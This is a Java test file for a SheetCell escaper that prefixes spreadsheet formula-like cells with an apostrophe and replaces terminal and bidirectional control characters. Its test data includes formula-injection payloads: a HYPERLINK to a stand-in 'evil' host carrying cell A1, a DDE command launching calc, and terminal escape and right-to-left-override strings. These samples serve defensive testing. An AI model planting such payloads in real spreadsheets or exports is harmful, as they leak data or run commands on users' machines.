package org.tidemark.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class SheetCellTest {
    @ParameterizedTest
    @DisplayName("R-escapes-in-csv: a cell that begins like a formula is text")
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil/?x=\"&A1)",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "+1+1",
                "-1+1",
                "-cmd",
                "+1",
                "=",
                "  =1",
                "\u00A0=1",
                "＝1+1",
                "＋1",
                "－1",
                "＠A1",
                "|calc",
                "%0A"
            })
    void aFormulaBecomesText(String text) {
        assertThat(SheetCell.written(text)).isEqualTo("'" + text);
        assertThat(SheetCell.read(SheetCell.written(text))).isEqualTo(text);
    }

    @ParameterizedTest
    @DisplayName("R-escapes-in-csv: numbers and ordinary text stay as they are")
    @ValueSource(
            strings = {"", "-1", "-0.5", "12", "-1.5E-7", "2024-05", "a=b", "it's", "'quoted'", "1-2", "Zürich", "P0D"})
    void whatIsNoFormulaStays(String text) {
        assertThat(SheetCell.written(text)).isEqualTo(text);
        assertThat(SheetCell.read(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @DisplayName(
            "R-escapes-in-csv: what a terminal obeys is gone, and a tab or line break before a formula hides nothing")
    @MethodSource("obeyed")
    void controlsGo(String text, String cell) {
        assertThat(SheetCell.written(text)).isEqualTo(cell);
    }

    static Stream<Arguments> obeyed() {
        return Stream.of(
                Arguments.of("\t=1", "' =1"),
                Arguments.of("\r=1", "' =1"),
                Arguments.of("\n@x", "' @x"),
                Arguments.of("\u001b[31mred", "\uFFFD[31mred"),
                Arguments.of("\u001b]0;owned\u0007", "\uFFFD]0;owned\uFFFD"),
                Arguments.of("\u009b31m", "\uFFFD31m"),
                Arguments.of("line1\r\nline2", "line1  line2"),
                Arguments.of("a\u2028b\u2029c\u0085d", "a b c d"),
                Arguments.of("\u202Egnp.exe", "\uFFFDgnp.exe"),
                Arguments.of("\u2066x\u2069", "\uFFFDx\uFFFD"),
                Arguments.of("\uFEFF=1", "\uFFFD=1"),
                Arguments.of("\uD800", "\uFFFD"),
                Arguments.of("می\u200Cخواهم", "می\u200Cخواهم"));
    }

    @Property
    void whatIsWrittenIsReadAgain(@ForAll @StringLength(max = 12) String text) {
        String plain = PlainText.of(text);

        assertThat(SheetCell.read(SheetCell.written(text))).isEqualTo(plain);
        assertThat(PlainText.isPlain(plain)).isTrue();
    }

    @Property
    void formulasBehindApostrophesAreReadAgain(
            @ForAll("starts") String start, @ForAll @StringLength(max = 5) String rest) {
        String text = PlainText.of(start + rest);

        assertThat(SheetCell.read(SheetCell.written(text))).isEqualTo(text);
    }

    @Provide
    Arbitrary<String> starts() {
        return Arbitraries.strings().withChars("'=+-@ |%1").ofMaxLength(6);
    }
}
